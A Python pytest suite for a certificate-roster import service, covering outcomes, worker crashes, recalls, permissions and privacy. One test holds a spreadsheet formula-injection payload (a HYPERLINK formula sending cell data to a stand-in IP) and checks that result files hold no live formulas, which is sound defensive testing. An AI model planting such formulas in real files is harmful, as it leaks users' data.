import csv
import random
import subprocess
import time
import zipfile
from pathlib import Path

import psutil
import pytest
import python_calamine
import xlsxwriter
from bson import encode
from python_calamine import CalamineWorkbook

from contract import certification as public
from contract.message import Event
from contract.words import Role
from runtime import trace
from samples import sheets
from services.certification.rosters import annotated
from services.certification.rosters import job as working
from services.certification.rosters.columns import FIELDS
from tests.builders import a_certificate, a_person, a_roster, write_roster
from tests.interleaved import interleaved
from tests.services.certification.actors import BUREAU, CENTRE, INSPECTOR, OTHER_CENTRE, an_actor
from tests.services.certification.builders import papers

SAMPLES = Path("samples")


@pytest.fixture
def said(certificates):
    def read():
        return [Event.heard(row["event"]) for row in certificates.store["outbox"].find().sort("_id", 1)]

    return read


def a_mixed_roster(rows=60):
    """``rows`` certificates of which every tenth is rejected, one is told twice and one twice with another name."""
    found = a_roster(rows)
    for place in range(5, rows, 10):
        found[place] = found[place] | {"level": "六级"}
    found.append(found[0])
    found.append(found[1] | {"holder_name": "欧阳一苇"})
    return found


def state_of(certificates, settings):
    """All that an import leaves, without ids and times, which differ from run to run."""
    store = certificates.store
    dropped = {"_id", "sealed", "recorded_at", "history", "import_id", "numbers", "person_key", "holder_key"}
    return {
        "certificates": {
            row["numbers"][0]: {name: value for name, value in row.items() if name not in dropped}
            for row in store["certificates"].find()
        },
        "certificate count": store["certificates"].count_documents({}),
        "said": sorted((row["event"]["type"], row["event"]["data"]["issued_on"]) for row in store["outbox"].find()),
        "rows": [
            {name: value for name, value in row.items() if name != "certificate_id"}
            for chunk in store["import_chunks"].find().sort("_id", 1)
            for row in chunk["rows"]
        ],
    }


@pytest.mark.parametrize("suffix", ["xlsx", "csv"])
def test_every_row_gets_its_outcome_and_the_job_counts_them(rosters, tmp_path, suffix):
    job = rosters.work(rosters.start(write_roster(tmp_path / f"r.{suffix}", a_mixed_roster())))
    assert (job["state"], job["rows_total"], job["rows_done"]) == ("done", 62, 62)
    assert rosters.outcomes(job) == {"created": 54, "rejected": 6, "duplicate": 1, "conflict": 1}
    assert (job["created"], job["rejected"], job["duplicate"], job["conflict"]) == (54, 6, 1, 1)
    assert [row["row"] for row in rosters.rows(job)] == list(range(2, 64))
    assert {(row["field"], row["code"]) for row in rosters.rows(job, "rejected")} == {("level", "level_unknown")}
    assert "姓名" in rosters.rows(job, "conflict")[0]["reason"]


def test_the_sample_rosters_have_exactly_the_outcomes_that_their_maker_wrote_down(rosters):
    expected: dict[str, list[tuple[int, str, str, str]]] = {}
    with (SAMPLES / "expected.csv").open(encoding="utf-8", newline="") as file:
        for row in csv.DictReader(file):
            expected.setdefault(row["file"], []).append((int(row["row"]), row["outcome"], row["field"], row["code"]))
    jobs = {}
    for path in sorted((SAMPLES / "rosters").glob("1*")):
        unit = path.name[:6]
        centre = an_actor(Role.TRAINING_CENTRE, region=unit, name=f"centre-{unit}")
        jobs[path.name] = rosters.start(path, centre), centre
    assert jobs.keys() == expected.keys()
    for name, (job, centre) in jobs.items():
        found = rosters.work(job, actor=centre)
        assert found["state"] == "done", name
        got = [
            (row["row"], row["outcome"], row["field"] or "", row["code"] or "")
            for row in rosters.rows(job, actor=centre)
        ]
        assert got == expected[name], f"{name}: rows differ from samples/expected.csv"


def test_every_created_row_is_a_certificate_and_an_event_of_this_import(rosters, service, said, tmp_path):
    job = rosters.work(rosters.start(write_roster(tmp_path / "r.xlsx", a_mixed_roster())))
    created = {row["certificate_id"] for row in rosters.rows(job, "created")}
    assert {event.data["certificate_id"] for event in said()} == created
    assert {event.data["import_id"] for event in said()} == {job["import_id"]}
    listed = service.certificates(CENTRE, import_id=job["import_id"], limit=500)["items"]
    assert {each["certificate_id"] for each in listed} == created


def test_the_same_file_again_is_the_same_job_and_leaves_one_copy(rosters, tmp_path, settings):
    path = write_roster(tmp_path / "r.csv", a_roster(5))
    first = rosters.start(path)
    again = rosters.start(path)
    assert again["import_id"] == first["import_id"]
    assert rosters.files._files.count_documents({}) == 1
    done = rosters.work(first)
    assert rosters.start(path) == done
    assert rosters.start(path, OTHER_CENTRE)["import_id"] != first["import_id"]


def test_the_same_rows_in_another_file_are_duplicates_and_say_nothing(rosters, said, tmp_path):
    certificates = a_roster(30)
    rosters.work(rosters.start(write_roster(tmp_path / "a.csv", certificates)))
    job = rosters.work(rosters.start(write_roster(tmp_path / "b.xlsx", certificates)))
    assert rosters.outcomes(job) == {"duplicate": 30}
    assert all(row["certificate_id"] for row in rosters.rows(job))
    assert len(said()) == 30


def test_what_another_centre_recorded_is_told_as_taken_and_no_more(rosters, tmp_path):
    certificates = a_roster(4)
    rosters.work(rosters.start(write_roster(tmp_path / "a.csv", certificates)))
    changed = [certificates[0], certificates[1] | {"holder_name": "欧阳一苇"}]
    job = rosters.start(write_roster(tmp_path / "b.csv", changed), OTHER_CENTRE)
    rosters.work(job, actor=OTHER_CENTRE)
    rows = rosters.rows(job, actor=OTHER_CENTRE)
    assert [row["outcome"] for row in rows] == ["duplicate", "conflict"]
    assert all(row["certificate_id"] is None for row in rows)
    assert "姓名" not in rows[1]["reason"]


def test_rows_for_a_region_that_is_not_the_centres_are_rejected(rosters, tmp_path):
    tangshan = an_actor(Role.TRAINING_CENTRE, region="130200", name="tangshan")
    path = write_roster(tmp_path / "r.csv", [a_certificate(1, region="130202"), a_certificate(2, region="130102")])
    job = rosters.start(path, tangshan)
    rosters.work(job, actor=tangshan)
    rows = rosters.rows(job, actor=tangshan)
    assert [(row["outcome"], row["code"]) for row in rows] == [("created", None), ("rejected", "region_not_yours")]


def test_a_dry_run_tells_what_would_become_of_the_rows_and_records_nothing(rosters, certificates, said, tmp_path):
    path = write_roster(tmp_path / "r.xlsx", a_mixed_roster())
    dry = rosters.work(rosters.start(path, dry_run=True), rows=7)
    assert said() == []
    assert certificates.store["certificates"].count_documents({}) == 0
    wet = rosters.work(rosters.start(path), rows=7)
    assert dry["import_id"] != wet["import_id"]
    assert [row["outcome"] for row in rosters.rows(dry)] == [row["outcome"] for row in rosters.rows(wet)]


def test_a_killed_worker_is_taken_over_and_the_end_is_that_of_an_undisturbed_import(
    rosters, certificates, settings, tmp_path
):
    """Killed with -9 again and again, at rows that chance picks, then brought to its end."""
    path = write_roster(tmp_path / "r.xlsx", a_mixed_roster(600))
    job = rosters.start(path)
    dice = random.Random(7)
    for _ in range(5):
        worker = rosters.process()
        aim = rosters.job(job)["rows_done"] + dice.randrange(1, 120)
        rosters.until(job, lambda found, aim=aim: found["rows_done"] >= aim or found["state"] == "done")
        worker.kill()
        worker.wait()
    found = rosters.work(job, rows=20)
    assert found["state"] == "done"
    interrupted = state_of(certificates, settings)

    for name in ("certificates", "outbox", "imports", "import_chunks"):
        certificates.store[name].delete_many({})
    rosters.work(rosters.start(path), rows=20)
    assert interrupted == state_of(certificates, settings)


def test_a_dry_run_that_was_killed_still_finds_what_is_told_twice(rosters, tmp_path):
    path = write_roster(tmp_path / "r.csv", a_mixed_roster(400))
    job = rosters.start(path, dry_run=True)
    worker = rosters.process()
    rosters.until(job, lambda found: found["rows_done"] >= 100)
    worker.kill()
    worker.wait()
    found = rosters.work(job, rows=33)
    assert (found["duplicate"], found["conflict"], found["rows_done"]) == (1, 1, 402)


def test_two_workers_never_settle_a_row_twice(rosters, said, tmp_path):
    jobs = [rosters.start(write_roster(tmp_path / f"{n}.csv", a_roster(300, seed=n * 1000))) for n in range(3)]
    workers = [rosters.process(), rosters.process()]
    try:
        for job in jobs:
            assert rosters.settled(job)["created"] == 300
    finally:
        for worker in workers:
            worker.kill()
            worker.wait()
    assert len(said()) == 900


def test_a_worker_that_lost_its_lease_writes_nothing_more(
    rosters, imports, certificates, tmp_path, monkeypatch, settings
):
    job = rosters.start(write_roster(tmp_path / "r.csv", a_roster(50)))
    settle = working.Importing._settle

    def overtaken(self, job, token, *rest):
        imports.take(job.import_id, token + 1)  # somebody else thinks that this one is dead
        return settle(self, job, token, *rest)

    with monkeypatch.context() as patch:
        patch.setattr(working.Importing, "_settle", overtaken)
        with pytest.raises(AssertionError, match="stands still"):
            rosters.work(job, seconds=2)
    assert certificates.store["certificates"].count_documents({}) == 0
    assert certificates.store["outbox"].count_documents({}) == 0


def test_a_worker_that_is_asked_to_stop_leaves_the_job_to_the_next_at_once(rosters, tmp_path):
    job = rosters.start(write_roster(tmp_path / "r.csv", a_roster(400)))
    with pytest.raises(AssertionError, match="stands still"):
        rosters.work(job, rows=5, seconds=0.3)
    assert rosters.work(job, seconds=10)["created"] == 400


@pytest.mark.parametrize(
    ("content", "code"),
    [
        (bytes(1 << 20), "roster_unreadable"),
        ("姓名,年龄\n王小花,30\n".encode(), "roster_unreadable"),
        (b"", "roster_unreadable"),
    ],
)
def test_a_file_that_is_no_roster_fails_the_job_with_a_reason(rosters, service, tmp_path, content, code):
    path = tmp_path / "r.xlsx"
    path.write_bytes(content)
    job = rosters.work(rosters.start(path))
    assert (job["state"], job["failure_code"], job["has_result"]) == ("failed", code, False)
    assert job["failure"]
    assert job["failure_en"]
    with pytest.raises(public.ImportWithoutResult):
        service.import_result(job["import_id"], CENTRE)
    assert rosters.rows(job) == []


def test_a_fault_of_our_own_is_tried_again_and_then_told_and_can_be_taken_up(rosters, tmp_path, monkeypatch):
    path = write_roster(tmp_path / "r.csv", a_roster(60))
    job = rosters.start(path)
    with monkeypatch.context() as patch:
        patch.setattr(working, "_ATTEMPTS", 2)
        patch.setattr(working.annotated, "workbook", None)
        failed = rosters.work(job)
    assert (failed["state"], failed["failure_code"], failed["created"]) == ("failed", "interrupted", 60)
    again = rosters.start(path)
    assert (again["import_id"], again["state"]) == (job["import_id"], "queued")
    done = rosters.work(job)
    assert (done["state"], done["created"], done["failure"]) == ("done", 60, None)
    assert rosters.files._files.count_documents({}) == 2, "the upload and the result, no third copy"


def test_a_recall_revokes_every_certificate_of_the_import_and_no_other(rosters, service, said, tmp_path):
    rosters.work(rosters.start(write_roster(tmp_path / "a.csv", a_roster(10, seed=1000))))
    job = rosters.work(rosters.start(write_roster(tmp_path / "b.csv", a_roster(60))))
    first = a_roster(60)[0]["certificate_number"]
    service.revoke_certificate({"certificate_number": first, "reason": "另有原因", "evidence": papers(service)}, BUREAU)
    recall = {"import_id": job["import_id"], "reason": "整批造假"}
    with pytest.raises(public.CertificateInvalid):
        service.recall_import(recall, BUREAU)
    asked = service.recall_import(recall | {"evidence": papers(service)}, BUREAU)
    assert asked["state"] == "recalling"
    recalled = rosters.work(job, rows=7)
    assert (recalled["state"], recalled["recalled"], recalled["created"]) == ("recalled", 59, 60)
    revoked = [event for event in said() if event.event is public.CertificateRevoked]
    assert len({event.data["certificate_id"] for event in revoked}) == len(revoked) == 60
    page = service.certificates(BUREAU, import_id=job["import_id"], limit=500)["items"]
    assert {each["status"] for each in page} == {"revoked"}
    assert {each["history"][-1]["reason"] for each in page} == {"整批造假", "另有原因"}
    assert len(service.certificates(BUREAU, status="valid", limit=500)["items"]) == 10
    again = service.recall_import(recall | {"reason": "再来一次", "evidence": papers(service)}, BUREAU)
    assert again["state"] == "recalled"


def test_a_recall_whose_worker_is_killed_revokes_each_certificate_once(rosters, service, said, tmp_path):
    job = rosters.work(rosters.start(write_roster(tmp_path / "b.csv", a_roster(400))))
    service.recall_import({"import_id": job["import_id"], "reason": "整批造假"}, CENTRE)
    worker = rosters.process(rows=10)
    rosters.until(job, lambda found: found["recalled"] >= 50)
    worker.kill()
    worker.wait()
    assert rosters.work(job)["recalled"] == 400
    assert [event.data["version"] for event in said()].count(2) == 400


def test_who_may_recall_and_when(rosters, service, tmp_path):
    job = rosters.start(write_roster(tmp_path / "b.csv", a_roster(5)))
    command = {"import_id": job["import_id"], "reason": "整批造假"}
    with pytest.raises(public.ImportNotFinished):
        service.recall_import(command, CENTRE)
    with pytest.raises(public.ImportNotFinished):
        service.import_result(job["import_id"], CENTRE)
    rosters.work(job)
    with pytest.raises(public.ImportNotFound):
        service.recall_import(command, OTHER_CENTRE)
    with pytest.raises(public.ActionNotAllowed):
        service.recall_import(command, INSPECTOR)
    elsewhere = an_actor(Role.CIVIL_AFFAIRS, region="130200", name="tangshan")
    with pytest.raises(public.ImportNotFound):
        service.import_job(job["import_id"], elsewhere)


def test_the_annotated_workbook_has_each_row_where_it_was_with_its_outcome(rosters, service, tmp_path):
    certificates = a_mixed_roster()
    headers = [
        "备注",
        "姓名",
        "证件类型",
        "证件号码",
        "职业名称",
        "工种",
        "等级",
        "证书编号",
        "发证日期",
        "评价机构",
        "行政区划",
        "班次",
    ]
    job = rosters.work(rosters.start(write_roster(tmp_path / "r.xlsx", certificates, headers=headers)))
    result = service.import_result(job["import_id"], CENTRE)
    path = tmp_path / "result.xlsx"
    path.write_bytes(b"".join(rosters.files.read(result["file_id"])))
    assert path.stat().st_size == result["size"]
    sheet = CalamineWorkbook.from_path(path).get_sheet_by_index(0).to_python()
    assert sheet[0] == [*headers, "结果", "问题字段", "原因"]
    assert [row[1] for row in sheet[1:]] == [body["holder_name"] for body in certificates]
    assert [row[3] for row in sheet[1:]] == [body["document_number"] for body in certificates], "numbers stay text"
    words = {"created": "已登记", "duplicate": "重复", "conflict": "冲突", "rejected": "退回"}
    assert [row[12] for row in sheet[1:]] == [words[row["outcome"]] for row in rosters.rows(job)]
    assert sheet[6][12:14] == ["退回", "等级"]
    assert "等级应为" in sheet[6][14]


def test_no_formula_of_an_uploaded_cell_is_alive_in_the_result(rosters, service, tmp_path):
    evil = '=HYPERLINK("http://192.0.2.1/?"&A2)'
    job = rosters.work(rosters.start(write_roster(tmp_path / "r.csv", [a_certificate(1, remarks=evil)])))
    path = tmp_path / "result.xlsx"
    path.write_bytes(b"".join(rosters.files.read(service.import_result(job["import_id"], CENTRE)["file_id"])))
    with zipfile.ZipFile(path) as archive:
        assert b"<f>" not in archive.read("xl/worksheets/sheet1.xml")


def test_nothing_personal_of_a_roster_lies_readable_in_the_database(rosters, certificates, settings, tmp_path):
    people = [a_certificate(seed, phone=f"154{seed:08d}") for seed in range(20)]
    people[3] = people[3] | {"level": "六级"}
    people.append(people[0] | {"holder_name": "欧阳一苇"})
    rosters.work(rosters.start(write_roster(tmp_path / "r.csv", people)))
    databases = [
        name for name in certificates.store.client.list_database_names() if name.startswith(settings.mongo_prefix)
    ]
    assert len(databases) >= 2
    for name in databases:
        database = certificates.store.client[name]
        for collection in database.list_collection_names():
            for document in database[collection].find():
                raw = encode(document)
                for body in people:
                    for field in ("document_number", "phone"):
                        assert body[field].encode() not in raw, f"{name}.{collection} holds a {field}"
                    if len(body["holder_name"]) > 2:
                        assert body["holder_name"].encode() not in raw, f"{name}.{collection} holds a name"


def test_the_trace_of_the_upload_goes_through_to_the_events_and_so_does_that_of_the_recall(
    rosters, service, certificates, tmp_path
):
    with trace.span() as uploaded:
        job = rosters.start(write_roster(tmp_path / "r.csv", a_roster(3)))
    rosters.work(job)
    with trace.span() as asked:
        service.recall_import({"import_id": job["import_id"], "reason": "整批造假"}, CENTRE)
    rosters.work(job)
    traces = [row["event"]["traceparent"].split("-")[1] for row in certificates.store["outbox"].find().sort("_id", 1)]
    assert traces == [uploaded.split("-")[1]] * 3 + [asked.split("-")[1]] * 3


def test_the_logs_of_an_import_name_no_person(rosters, tmp_path, capfd, settings):
    person = a_person(1)
    worker = rosters.process()
    try:
        job = rosters.start(write_roster(tmp_path / "r.csv", [a_certificate(1), a_certificate(2) | {"level": "六级"}]))
        rosters.settled(job)
    finally:
        worker.kill()
        worker.wait()
    told = "".join(capfd.readouterr())
    assert person.name not in told
    assert person.document_number not in told


def test_an_upload_that_was_lost_is_told_and_the_same_file_again_goes_on(rosters, tmp_path):
    path = write_roster(tmp_path / "r.csv", a_roster(5))
    job = rosters.start(path)
    rosters.files._blocks.delete_many({})
    failed = rosters.work(job)
    assert (failed["state"], failed["failure_code"]) == ("failed", "interrupted")
    assert rosters.start(path)["import_id"] == job["import_id"]
    assert rosters.work(job)["created"] == 5


def test_a_recall_that_meets_the_same_file_again_is_either_begun_or_refused(rosters, service, tmp_path):
    path = write_roster(tmp_path / "r.csv", a_roster(5))
    job = rosters.start(path)
    rosters.files._blocks.delete_many({})
    assert rosters.work(job)["failure_code"] == "interrupted"
    recall = {"import_id": job["import_id"], "reason": "整批造假"}
    refused, again = interleaved(lambda: service.recall_import(recall, CENTRE), lambda: rosters.start(path))
    assert again["state"] == "queued"
    assert isinstance(refused, public.ImportNotFinished)


def test_two_who_take_an_import_up_at_once_leave_one_copy_of_the_file(rosters, tmp_path):
    path = write_roster(tmp_path / "r.csv", a_roster(5))
    job = rosters.start(path)
    rosters.files._blocks.delete_many({})
    rosters.work(job)
    one, other = interleaved(
        lambda: rosters.start(path),
        lambda: rosters.start(path),
        at=lambda command: command.command_name == "findAndModify",
    )
    assert one == other
    assert rosters.files._files.count_documents({}) == 1
    assert rosters.work(job)["created"] == 5


def test_who_recalls_an_import_calls_off_nothing_that_others_do_meanwhile(rosters, service, certificates, tmp_path):
    """The sessions of the worker that imported it serve other transactions by now."""
    job = rosters.work(rosters.start(write_roster(tmp_path / "r.csv", a_roster(3))))
    assert "sessions" not in certificates.store["imports"].find_one()
    service.recall_import({"import_id": job["import_id"], "reason": "整批造假"}, CENTRE)
    rosters.work(job)
    assert "sessions" not in certificates.store["imports"].find_one()


def test_a_recalled_import_is_not_made_undone_by_the_same_file(rosters, service, said, tmp_path):
    path = write_roster(tmp_path / "r.csv", a_roster(3))
    job = rosters.work(rosters.start(path))
    service.recall_import({"import_id": job["import_id"], "reason": "整批造假"}, CENTRE)
    rosters.work(job)
    assert rosters.start(path)["state"] == "recalled"
    other = rosters.work(rosters.start(write_roster(tmp_path / "r.xlsx", a_roster(3))))
    assert rosters.outcomes(other) == {"duplicate": 3}
    assert len(said()) == 6


def test_half_a_workbook_that_a_killed_worker_left_is_removed_at_the_next_start(tmp_path, monkeypatch):
    monkeypatch.setattr(annotated.tempfile, "gettempdir", lambda: str(tmp_path))
    worker = subprocess.Popen(["sleep", "60"])
    alive = tmp_path / f"{annotated._FOLDER}{worker.pid}-a"
    with worker:
        gone = tmp_path / f"{annotated._FOLDER}999999999-b"
        for folder in (alive, gone):
            folder.mkdir()
            (folder / "sheet1.xml").write_text("half")
        annotated.sweep()
        assert (alive.exists(), gone.exists()) == (True, False)
        worker.kill()


def test_a_big_roster_stays_within_bounded_memory(rosters, tmp_path):
    """8,000 rows: the worker's own peak stays where it is with ten; 100,000 are in benchmarks/."""
    peaks = []
    for rows in (10, 8_000):
        job = rosters.start(write_roster(tmp_path / f"{rows}.xlsx", a_roster(rows, seed=rows * 10)))
        worker = psutil.Process((process := rosters.process(rows=500)).pid)
        peak = 0
        while rosters.job(job)["state"] in ("queued", "running"):
            peak = max(peak, worker.memory_info().rss)
            time.sleep(0.05)
        process.kill()
        process.wait()
        peaks.append(peak)
    assert peaks[1] < peaks[0] + (40 << 20), f"{peaks[1] >> 20} MB for 8,000 rows, {peaks[0] >> 20} MB for ten"


def test_an_import_of_several_sheets_names_them_and_gives_each_back(rosters, service, settings, tmp_path):
    certificates = a_roster(5)
    book = xlsxwriter.Workbook(str(tmp_path / "r.xlsx"))
    for name, part in (("一班", certificates[:2]), ("二班", certificates[2:])):
        sheet = book.add_worksheet(name)
        sheet.write_row(0, 0, list(FIELDS))
        for number, certificate in enumerate(part, start=1):
            cells = sheets.plain(certificate)
            sheet.write_row(number, 0, [cells.get(header, "") for header in FIELDS])
    sheet.write(2, list(FIELDS).index("联系电话"), "15400")
    sheet.set_row(3, None, None, {"hidden": True})
    book.add_worksheet("说明").write(0, 0, "填写说明")
    book.close()
    job = rosters.work(rosters.start(tmp_path / "r.xlsx"), rows=2)
    assert (job["state"], job["created"], job["rows_total"]) == ("done", 5, 5)
    assert [(sheet["name"], sheet["is_read"], sheet["rows"], sheet["hidden_rows"]) for sheet in job["sheets"]] == [
        ("一班", True, 2, 0),
        ("二班", True, 3, 1),
        ("说明", False, 0, 0),
    ]
    assert job["sheets"][2]["reason"]
    rows = rosters.rows(job)
    assert [(row["sheet"], row["row"]) for row in rows] == [
        ("一班", 2),
        ("一班", 3),
        ("二班", 2),
        ("二班", 3),
        ("二班", 4),
    ]
    assert (rows[3]["outcome"], rows[3]["field"], rows[3]["code"]) == ("created", "phone", "phone_invalid")
    assert "联系电话" in rows[3]["reason"]
    page = service.import_rows(job["import_id"], CENTRE, limit=3)
    assert [row["row"] for row in service.import_rows(job["import_id"], CENTRE, after=page["next"])["items"]] == [3, 4]
    result = service.import_result(job["import_id"], CENTRE)
    with rosters.files.spool(result["file_id"]) as file:
        given_back = python_calamine.CalamineWorkbook.from_filelike(file)
        assert given_back.sheet_names == ["一班", "二班"]
        assert [row[0] for row in given_back.get_sheet_by_name("二班").to_python()[1:]] == [
            certificate["holder_name"] for certificate in certificates[2:]
        ]
